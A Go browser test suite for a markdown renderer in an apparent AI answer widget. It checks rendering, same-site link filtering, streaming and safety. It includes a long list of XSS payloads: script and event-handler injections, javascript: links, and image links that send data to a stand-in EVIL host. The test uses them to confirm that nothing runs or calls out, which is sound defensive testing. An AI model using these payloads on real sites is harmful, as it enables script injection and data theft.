package static_test

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os/exec"
	"strings"
	"sync/atomic"
	"testing"

	cdppage "github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"
)

// module is a source file as a script that sets globalThis[name] to what it exports.
func module(t *testing.T, name, file string) string {
	t.Helper()
	out, err := exec.Command("go", "tool", "esbuild", file, "--bundle", "--format=iife", "--global-name="+name).Output()
	if err != nil {
		t.Fatalf("build %s: %v", file, err)
	}
	return string(out) + ";globalThis." + name + " = " + name + ";"
}

// rendering is a page with renderAnswer in it.
func rendering(t *testing.T, url string) *tab {
	t.Helper()
	p := newTab(t)
	p.do(chromedp.Navigate(url), chromedp.Evaluate[chromedp.Void](module(t, "Answer", "src/answer.ts")+`
		globalThis.draw = (text, opts) => { const e = document.createElement("div"); Answer.renderAnswer(e, text, opts ?? {cite: mark}); return e };
		globalThis.mark = n => { if (n > 3) return null; const b = document.createElement("b"); b.textContent = n; return b };`))
	return p
}

func TestRenderAnswer(t *testing.T) {
	p := rendering(t, "about:blank")
	for _, c := range []struct{ name, text, html string }{
		{"paragraphs", "One.\r\nStill one.\n\n\nTwo.", `<p>One.` + "\n" + `Still one.</p><p>Two.</p>`},
		{"breaks", "a  \nb\\\nc<br>d", `<p>a<br>b<br>c<br>d</p>`},
		{"bold and italics", "**a** *b* __c__ _d_ ***e*** ~~f~~", `<p><strong>a</strong> <em>b</em> <strong>c</strong> <em>d</em> <strong><em>e</em></strong> <del>f</del></p>`},
		{"nested", "**a *b* c** and **d *e***", `<p><strong>a <em>b</em> c</strong> and <strong>d <em>e</em></strong></p>`},
		{"not marks", "2 * 3 * 4, snake_case_name, a ** b, **open", `<p>2 * 3 * 4, snake_case_name, a ** b, **open</p>`},
		{"escapes", `\*a\* \[1] 50\%`, `<p>*a* [1] 50%</p>`},
		{"code", "`a*b*` ``x`y`` ` z ` `open", "<p><code>a*b*</code> <code>x`y</code> <code>z</code> `open</p>"},
		{"fence", "```go\na\n\n  **b**\n```\nafter", "<pre dir=\"ltr\" tabindex=\"0\"><code>a\n\n  **b**</code></pre><p>after</p>"},
		{"open fence", "~~~\na", `<pre dir="ltr" tabindex="0"><code>a</code></pre>`},
		{"heading", "# A *b*\ntext\n## C", `<h4>A <em>b</em></h4><p>text</p><h4>C</h4>`},
		{"rule", "a\n\n---\n\nb", `<p>a</p><hr><p>b</p>`},
		{"quote", "> a\n> - b\n\nc", `<blockquote><p>a</p><ul><li>b</li></ul></blockquote><p>c</p>`},
		{"list", "Text:\n- a\n- b\n  more\n* c", `<p>Text:</p><ul><li>a</li><li>b` + "\n" + `more</li></ul><ul><li>c</li></ul>`},
		{"loose list", "1. a\n\n2. b\n\n   c\n\nd", `<ol start="1"><li>a</li><li>b<p>c</p></li></ol><p>d</p>`},
		{"start", "3. a\n4. b", `<ol start="3"><li>a</li><li>b</li></ol>`},
		{"nested list", "1. a\n   - b\n     - c\n2. d", `<ol start="1"><li>a<ul><li>b<ul><li>c</li></ul></li></ul></li><li>d</li></ol>`},
		{"a year is not a list", "It closed in\n2024. It opened again.", `<p>It closed in` + "\n" + `2024. It opened again.</p>`},
		{"table", "| Zone | Price |\n|:--|--:|\n| A **b** | 1 \\| 2 |\n| C |\nend", `<div tabindex="0"><table><thead><tr><th>Zone</th><th style="text-align: end;">Price</th></tr></thead>` +
			`<tbody><tr><td>A <strong>b</strong></td><td style="text-align: end;">1 | 2</td></tr><tr><td>C</td></tr></tbody></table></div><p>end</p>`},
		{"cites", "a[1][2] b[1, 3] c[9] d[12a]", `<p>a<b>1</b><b>2</b> b<b>1</b><b>3</b> c[9] d[12a]</p>`},
		{"no cites in code", "`a[1]`", `<p><code>a[1]</code></p>`},
		{"links are inert", "[a](https://evil.test/?d=1) <https://evil.test> https://evil.test/x. [](https://e.test)", `<p>a (https://evil.test/?d=1) https://evil.test https://evil.test/x. https://e.test</p>`},
		{"pictures", "![a](https://evil.test/x.png) ![r][1]", `<p>a !<a>r</a><b>1</b></p>`},
		{"html", "<b onclick=x>a</b> &amp; <script>b</script>", `<p>&lt;b onclick=x&gt;a&lt;/b&gt; &amp;amp; &lt;script&gt;b&lt;/script&gt;</p>`},
	} {
		t.Run(c.name, func(t *testing.T) {
			text, _ := json.Marshal(c.text)
			got := eval[string](&tab{t, p.ctx}, fmt.Sprintf(`draw(%s).innerHTML.replaceAll(' dir="auto"', "").replaceAll(' class="scroll"', "")`, text))
			want := strings.ReplaceAll(c.html, "<a>r</a>", "[r]")
			if got != want {
				t.Errorf("%q\n got %s\nwant %s", c.text, got, want)
			}
		})
	}
}

// Every way of cutting a text into pieces ends in the same nodes, and the blocks that were finished are not touched again.
func TestRenderAnswerGrows(t *testing.T) {
	p := rendering(t, "about:blank")
	p.check(`(() => {
		const text = "One **bold**.[1]\n\n1. a\n   - b\n\n| x | y |\n|---|---|\n| 1 | [2] |\n\n` + "```\\ncode\\n```" + `\n\nLast [l](https://e.test) line";
		const opts = {cite: mark}, e = document.createElement("div");
		let first;
		for (let i = 1; i <= text.length; i++) {
			Answer.renderAnswer(e, text.slice(0, i), opts);
			if (i === 20) first = e.firstChild;
		}
		return e.innerHTML === draw(text).innerHTML && e.firstChild === first;
	})()`)
}

func TestLinksOfTheSameSite(t *testing.T) {
	shop := httptest.NewServer(http.NotFoundHandler())
	t.Cleanup(shop.Close)
	p := rendering(t, strings.Replace(shop.URL, "127.0.0.1", "www.shop.test", 1))
	for url, linked := range map[string]bool{
		"https://shop.test/a?b=c#d": true, "http://www.shop.test": true, "https://help.shop.test/x": true, "mailto:hello@shop.test": true,
		"https://evil.test": false, "https://evilshop.test": false, "https://shop.test.evil.test": false, "https://shop.test@evil.test": false,
		"https://a:b@shop.test": false, "//shop.test": false, "/path": false, "javascript:alert(1)//shop.test": false, "data:text/html,shop.test": false,
		"mailto:x@evil.test": false, "mailto:x@shop.test?cc=x@evil.test": false, "mailto:x@evil.test,y@shop.test": false, "ftp://shop.test": false,
		"https:\\\\evil.test\\shop.test": false, "https://shop.test.": false, "": false,
	} {
		t.Run(url, func(t *testing.T) {
			quoted, _ := json.Marshal(url)
			if got := eval[bool](&tab{t, p.ctx}, fmt.Sprintf(`Answer.sameSite(%s) !== null`, quoted)); got != linked {
				t.Errorf("linked: %v", got)
			}
		})
	}
	p.check(`(() => {
		const e = document.createElement("div");
		Answer.renderAnswer(e, "[**Prices** now](https://shop.test/p?a=1&b=\"x) [out](https://evil.test)", {cite: () => null, link: Answer.sameSite});
		const a = e.querySelector("a");
		return a.textContent === "Prices now" && a.rel === "noopener noreferrer" && a.target === "_blank" && e.querySelectorAll("a").length === 1;
	})()`)
}

// A renderer that were quadratic in any of these would not end before the test's deadline.
func TestRenderAnswerIsLinear(t *testing.T) {
	p := rendering(t, "about:blank")
	for _, piece := range []string{"*", "**a ", "_a ", "`", "``a`", "[", "[1", "[a](", "![", "<", "<https://", "> ", "- ", "  - a\n", "1. a\n\n", "|", "|-", "| a\n|-|\n", "\\", " ", "\n", "# ", "~~a", "https://a", "***a **b *", "[a](((((", "```\n~~~\n"} {
		quoted, _ := json.Marshal(piece)
		p.check(fmt.Sprintf(`draw(%s.repeat(%d)).childNodes.length >= 0`, quoted, 200_000/len(piece)))
	}
}

// However a stream is cut, and whichever line ends a proxy makes of it, the same events come out.
func TestEventsOfACutStream(t *testing.T) {
	p := newTab(t)
	p.do(chromedp.Navigate("about:blank"), chromedp.Evaluate[chromedp.Void](module(t, "SSE", "src/widget/sse.ts")))
	p.check(`(() => {
		const read = chunks => { const events = []; const feed = SSE.eventReader((e, d) => events.push(e + "=" + d)); chunks.forEach(feed); return events.join("|") };
		const text = ": ping\n\nevent: delta\ndata: {\"a\": 1}\n\ndata:two\ndata: lines\nid: 7\n\nevent: empty\n\n: x\nevent:done\ndata\n\n";
		return ["\n", "\r\n", "\r"].every(end => {
			const stream = text.replaceAll("\n", end) + (end === "\r" ? ":" : "");
			const cuts = [[...stream]];
			for (let i = 0; i < stream.length; i++) cuts.push([stream.slice(0, i), stream.slice(i)]);
			return cuts.every(c => read(c) === "delta={\"a\": 1}|message=two\nlines|done=");
		});
	})()`)
}

// payloads try to become markup, a request or a script. EVIL is a server that must never hear of them.
var payloads = []string{
	`<script>alert(1)</script>`, `<img src=x onerror=alert(1)>`, `<img src="http://EVIL/a">`, `<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`,
	`<iframe src="http://EVIL/b"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>"></iframe>`, `<object data="http://EVIL/c"></object>`, `<embed src="http://EVIL/d">`,
	`<link rel=stylesheet href="http://EVIL/e">`, `<style>@import "http://EVIL/f";</style>`, `<style>*{background:url(http://EVIL/g)}</style>`, `<base href="http://EVIL/">`,
	`<meta http-equiv=refresh content="0;url=http://EVIL/h">`, `<form action="http://EVIL/i"><input name=q><button>Go</button></form>`, `<video src="http://EVIL/j" autoplay></video>`,
	`<audio src="http://EVIL/k" autoplay>`, `<details open ontoggle=alert(1)>`, `<marquee onstart=alert(1)>`, `<body onload=alert(1)>`, `<input autofocus onfocus=alert(1)>`,
	`<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`, `<template><img src=x onerror=alert(1)></template>`, `<bitb-widget onclick=alert(1)>`,
	`<a href="javascript:alert(1)">x</a>`, `<a href=" &#106;avascript:alert(1)">x</a>`, `</p></div><script>alert(1)</script>`, `"><script>alert(1)</script>`, `'onmouseover='alert(1)`,
	`![a](http://EVIL/l?d=secret)`, `![a][ref]` + "\n\n" + `[ref]: http://EVIL/m`, `![](http://EVIL/n)`, `[![a](http://EVIL/o)](http://EVIL/p)`, `![a](//EVIL/q)`, `![a](data:image/svg+xml;base64,PHN2Zz4=)`,
	`[click](javascript:alert(1))`, `[click](JaVaScRiPt:alert(1))`, "[click](java\tscript:alert(1))", `[click](javascript&colon;alert(1))`, `[click](\x01javascript:alert(1))`,
	`[click](data:text/html,<script>alert(1)</script>)`, `[click](vbscript:msgbox(1))`, `[click](blob:http://EVIL/r)`, `[click](file:///etc/passwd)`, `[click](//EVIL/s)`, `[click](http:EVIL/t)`,
	`[click](http://EVIL/u "onclick=alert(1)")`, `[a](http://EVIL/" onmouseover="alert(1))`, `<javascript:alert(1)>`, `<http://EVIL/v>`, `http://EVIL/"onmouseover=alert(1)//`, `https://x.test/"onmouseover=alert(1)//`,
	"`<img src=x onerror=alert(1)>`", "```html\n<script>alert(1)</script>\n```", `| <img src=x onerror=alert(1)> | b |` + "\n|-|-|\n" + `| [c](javascript:alert(1)) | ![d](http://EVIL/w) |`,
	`> <script>alert(1)</script>`, `- <img src=x onerror=alert(1)>`, `# <svg onload=alert(1)>`, `{{constructor.constructor('alert(1)')()}}`, `${alert(1)}`, `[1](javascript:alert(1))`, `[1]<img src=x onerror=alert(1)>`,
	"\u202e<script>alert(1)</script>\u202c", "\u0000<script>alert(1)</script>", `<scr<script>ipt>alert(1)</scr</script>ipt>`, `%3Cscript%3Ealert(1)%3C/script%3E`, `\u003cscript\u003ealert(1)\u003c/script\u003e`,
	`**<b onclick=alert(1)>x</b>**`, `url(http://EVIL/x)`, `expression(alert(1))`, `[x](http://EVIL/y){onclick=alert(1)}`, `<a ping="http://EVIL/z" href="#">x</a>`, `<x/onclick=alert(1)>`,
}

// The same payloads in a stream cut at every byte, in the stored conversation, and in everything else that comes from the server.
func TestNothingFromOutsideRuns(t *testing.T) {
	var heard atomic.Int64
	evil := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { heard.Add(1) }))
	t.Cleanup(evil.Close)
	address := strings.Replace(evil.URL, "http://127.0.0.1", "evil.test", 1)
	text := strings.ReplaceAll(strings.Join(payloads, "\n\n"), "EVIL", address)
	nasty := strings.ReplaceAll(strings.Join(payloads[:30], " "), "EVIL", address)
	answer := message{Status: "complete", Text: text, Sources: []source{{1, nasty, 1, nasty, text}}}

	s := newServer(func(q string, _ int, w *wire) (message, refusal) {
		if q == "refuse" {
			return message{}, refusal{status: 429, Code: "rate_limited", Message: nasty, RetryAfter: 1}
		}
		w.stage("writing")
		for _, r := range text {
			w.delta(string(r))
		}
		done := strings.ReplaceAll(frame("done", w.store(answer)), "\n", "\r\n") // proxies may do that
		for i := range len(done) {
			w.raw(done[i : i+1])
		}
		return message{}, refusal{}
	})
	s.settings = map[string]any{"name": nasty, "greeting": nasty, "suggestions": []string{nasty}, "brand": "red;background:url(http://" + address + "/)", "on_brand": nasty, "corner": nasty, "model": nasty}
	p, url := opened(t, s, page{Before: `
		window.bad = [];
		const scan = n => {
			if (n.nodeType !== 1) return;
			if (!/^(SECTION|HEADER|DIV|P|H2|H3|H4|SPAN|B|BDI|BUTTON|TEXTAREA|UL|OL|LI|STRONG|EM|DEL|CODE|PRE|BLOCKQUOTE|HR|BR|TABLE|THEAD|TBODY|TR|TH|TD|svg|path)$/.test(n.tagName)) bad.push(n.outerHTML);
			for (const a of n.attributes) if (/^on|^href$|^src|^action$|^ping$/.test(a.name)) bad.push(n.outerHTML);
			for (const c of n.children) scan(c);
		};
		const attach = Element.prototype.attachShadow;
		Element.prototype.attachShadow = function (init) {
			const root = attach.call(this, init);
			new MutationObserver(ms => ms.forEach(m => m.addedNodes.forEach(scan))).observe(root, {childList: true, subtree: true});
			return root;
		};`})
	dialogs := make(chan string, 100)
	if err := chromedp.Listen(p.ctx, func(ev any) {
		if d, ok := ev.(*cdppage.EventJavascriptDialogOpening); ok {
			dialogs <- d.Message
		}
	}); err != nil {
		t.Fatal(err)
	}

	p.ask(nasty)
	p.until(`$(".src")`)
	p.click(".src button")
	p.until(`!$(".passage").hidden`)
	p.check(`$(".passage blockquote").textContent.includes("<script>alert(1)</script>")`)
	p.click(".passage .quiet")
	streamed := eval[string](p, `$(".a").innerHTML`)
	p.check(`$(".a").textContent.includes("<script>alert(1)</script>")`)
	p.ask("refuse")
	p.until(`$(".note")`)
	found := eval[[]string](p, `bad`)

	p.do(chromedp.Navigate(url))
	p.until(`$(".src")`)
	if stored := eval[string](p, `$(".a").innerHTML`); stored != streamed {
		t.Error("the stream and the stored answer are drawn differently")
	}
	for _, html := range append(found, eval[[]string](p, `bad`)...) {
		t.Errorf("in the panel: %s", html)
	}
	select {
	case text := <-dialogs:
		t.Errorf("a script ran: %s", text)
	default:
	}
	if n := heard.Load(); n > 0 {
		t.Errorf("%d requests went to a foreign server", n)
	}
}
